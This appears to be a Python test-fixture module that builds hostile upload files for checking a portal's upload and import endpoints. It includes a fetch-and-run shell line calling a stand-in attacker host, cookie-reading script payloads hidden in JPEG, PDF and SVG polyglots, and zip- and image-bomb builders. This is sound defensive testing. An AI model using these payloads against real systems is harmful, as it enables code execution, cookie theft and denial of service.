"""Files an attacker, or an unlucky phone, sends to an upload field.

Each builder returns ``(file name, bytes)``. The table ``HOSTILE_FILES`` is run against every
upload and import endpoint by ``tests/test_guard_uploads.py``.
"""

from __future__ import annotations

import io
import zipfile

from openpyxl import Workbook
from PIL import Image

SHEET = "xl/worksheets/sheet1.xml"


def jpeg(size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (180, 120, 60)).save(buffer, format="JPEG")
    return buffer.getvalue()


def png(size=(64, 48)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (60, 120, 180)).save(buffer, format="PNG")
    return buffer.getvalue()


def pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def xlsx(rows: list[list]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _rewrite(workbook: bytes, replace: dict[str, bytes], *, extra: int = 0) -> bytes:
    """The workbook with some parts replaced (deflated), and ``extra`` empty parts added."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for number in range(extra):
            target.writestr(f"customXml/item{number}.xml", b"<a/>")
    return buffer.getvalue()


def _stream_part(archive: zipfile.ZipFile, name: str, head: bytes, filler: bytes, size: int, tail):
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=True) as part:
        part.write(head)
        chunk = filler * (1024 * 1024 // len(filler))
        written = 0
        while written < size:
            part.write(chunk)
            written += len(chunk)
        part.write(tail)


def zip_bomb_xlsx(unpacked_mb: int = 64) -> tuple[str, bytes]:
    """A real workbook whose sheet is padded with whitespace to ``unpacked_mb`` megabytes:
    a file of some kilobytes that unpacks a thousand times larger (the 1 MB file of the
    report unpacked to 1 GB)."""
    base = zipfile.ZipFile(io.BytesIO(xlsx([["Nama", "Jenis kelamin", "Instansi"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in base.infolist():
            if info.filename != SHEET:
                target.writestr(info.filename, base.read(info))
        sheet = base.read(SHEET)
        head, tail = sheet.split(b"<sheetData>")
        _stream_part(target, SHEET, head + b"<sheetData>", b" ", unpacked_mb * 1024 * 1024, tail)
    return "peserta.xlsx", buffer.getvalue()


def tightly_packed_xlsx() -> tuple[str, bytes]:
    """Under the unpacked limit, but one part packed far tighter than a sheet can be."""
    workbook = xlsx([["Nama", "Jenis kelamin", "Instansi"]])
    sheet = zipfile.ZipFile(io.BytesIO(workbook)).read(SHEET)
    head, tail = sheet.split(b"<sheetData>")
    padded = head + b"<sheetData>" + b" " * (4 * 1024 * 1024) + tail
    return "padat.xlsx", _rewrite(workbook, {SHEET: padded})


def many_parts_xlsx() -> tuple[str, bytes]:
    return "bagian.xlsx", _rewrite(xlsx([["Nama"]]), {}, extra=400)


def script_as(name: str) -> tuple[str, bytes]:
    return name, b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n"


def polyglot_jpeg_html() -> tuple[str, bytes]:
    """A JPEG that browsers sniffing content would also run as a page."""
    return "foto.jpg", jpeg() + b"<html><body><script>alert(document.cookie)</script></body></html>"


def polyglot_pdf_html() -> tuple[str, bytes]:
    return "dokumen.pdf", pdf().replace(
        b"%%EOF", b"<html><script>alert(document.cookie)</script></html>\n%%EOF"
    )


def svg_with_script() -> tuple[str, bytes]:
    return "gambar.svg", (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def image_bomb() -> tuple[str, bytes]:
    """A PNG of a few kilobytes that claims 20,000 x 20,000 pixels."""
    buffer = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(buffer, format="PNG")
    return "bom.png", buffer.getvalue()


def truncated_jpeg() -> tuple[str, bytes]:
    whole = jpeg((400, 300))
    return "terpotong.jpg", whole[: len(whole) // 2]


def truncated_pdf() -> tuple[str, bytes]:
    whole = pdf()
    return "terpotong.pdf", whole[: len(whole) // 2]


def truncated_xlsx() -> tuple[str, bytes]:
    whole = xlsx([["Nama", "Jenis kelamin", "Instansi"], ["Siti", "P", "Dinas"]])
    return "terpotong.xlsx", whole[: len(whole) // 2]


def oversized(name: str = "besar.jpg", megabytes: int = 11) -> tuple[str, bytes]:
    """Over every upload limit of the portal (10 MB at most)."""
    head = jpeg()
    return name, head + b"\0" * (megabytes * 1024 * 1024 - len(head))


def fake_heic() -> tuple[str, bytes]:
    """The first bytes of an HEIC (an ISO box ``ftypheic``), then garbage."""
    return "IMG_0001.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\x13\x37" * 2048


def empty(name: str = "kosong.jpg") -> tuple[str, bytes]:
    return name, b""


HOSTILE_FILES = {
    "script renamed .jpg": lambda: script_as("foto.jpg"),
    "script renamed .pdf": lambda: script_as("dokumen.pdf"),
    "script renamed .xlsx": lambda: script_as("daftar.xlsx"),
    "polyglot JPEG+HTML": polyglot_jpeg_html,
    "polyglot PDF+HTML": polyglot_pdf_html,
    "SVG with script": svg_with_script,
    "decompression bomb image": image_bomb,
    "zip bomb xlsx": zip_bomb_xlsx,
    "xlsx packed like a zip bomb": tightly_packed_xlsx,
    "xlsx of hundreds of parts": many_parts_xlsx,
    "truncated JPEG": truncated_jpeg,
    "truncated PDF": truncated_pdf,
    "truncated xlsx": truncated_xlsx,
    "oversized file": oversized,
    "HEIC that is not one": fake_heic,
    "empty file": empty,
}
